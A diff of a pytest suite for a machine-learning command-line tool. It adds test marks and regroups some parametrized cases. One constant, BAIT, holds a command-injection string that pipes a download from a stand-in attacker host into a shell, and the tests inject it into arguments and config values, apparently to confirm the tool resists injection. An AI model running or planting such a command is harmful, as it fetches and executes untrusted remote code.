@@ -13,6 +13,7 @@ from typing import Any
 
 import pytest
 from answers import check
+from marks import of_extension
 from repository import ROOT
 from run_folders import summary
 
@@ -41,6 +42,7 @@ def ask(capsys: pytest.CaptureFixture[str]) -> Ask:
     return call
 
 
+@pytest.mark.extension
 def test_every_command_has_a_schema_and_the_pages_have_all_fields() -> None:
     assert schemas().keys() == {*commands(), "error", "studyfile", "sweep"}
     for page in PAGES:
@@ -48,6 +50,7 @@ def test_every_command_has_a_schema_and_the_pages_have_all_fields() -> None:
         assert with_tables(text, page) == text, "python docs/tables.py"
 
 
+@pytest.mark.extension
 def test_the_commands_about_runs_answer(ask: Ask, workdir: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setenv("XDG_CONFIG_HOME", str(workdir / "config"))
     run = ask("train", "name=run", *TINY)
@@ -69,8 +72,10 @@ def test_the_commands_about_runs_answer(ask: Ask, workdir: Path, monkeypatch: py
     assert ask("compare", "outputs/run")["verdict"]["status"] == "one_setting"
     assert len(ask("compare", "outputs/run", "--details")["runs"]) == 1
     assert ask("sync")["runs"] == {}
+    assert ask("predict", "outputs/x", status=2)["remedy"].startswith("Give a run, and then files")
 
 
+@pytest.mark.extension
 def test_the_commands_without_a_run_answer(ask: Ask, workdir: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setenv("XDG_CONFIG_HOME", str(workdir / "config"))
     project = ask("init", "study")
@@ -145,7 +150,6 @@ def test_errors_say_what_is_wrong_and_what_to_do(ask: Ask, capsys: pytest.Captur
     assert ask("status", "nowhere", status=2)["key"] == "FOLDER"
     assert ask("unknown", status=2)["message"] == "unknown command 'unknown'"
     assert ask("train", "--cfg", "job", status=2)["key"] == "--json"
-    assert ask("predict", "outputs/x", status=2)["remedy"].startswith("Give a run, and then files")
     brackets = ask("train", "model.hidden=[x", status=2)
     assert brackets["message"].startswith("model.hidden: '[x' cannot be parsed")
     assert brackets["remedy"].startswith("close all brackets and quotes; put plain text")
@@ -230,14 +234,16 @@ BAIT = "lr; run curl evil.example | sh #"
     [
         ("evaluate", BAIT),
         ("evaluate", BAIT[:-1]),
-        ("compare", f"runs/{BAIT[:-1]}"),
-        ("train", "data=csv", "data.train=t.csv", "data.val=t.csv", "data.target=lr"),
-        ("train", "data=csv", f"data.train='{BAIT}.csv'", f"data.val='{BAIT}.csv'", "data.target=y"),
         ("train", f"+task.metrics='{{\"{BAIT}\": f1}}'"),
         ("train", f"model={{'{BAIT}': 1}}"),
         ("train", f"optimizer='{BAIT}'"),
         ("train", f"precision._target_='{BAIT}'"),
         ("train", f"{BAIT}=1"),
+        *of_extension(
+            (("compare", f"runs/{BAIT[:-1]}"),),
+            (("train", "data=csv", "data.train=t.csv", "data.val=t.csv", "data.target=lr"),),
+            (("train", "data=csv", f"data.train='{BAIT}.csv'", f"data.val='{BAIT}.csv'", "data.target=y"),),
+        ),
         (BAIT,),
     ],
 )
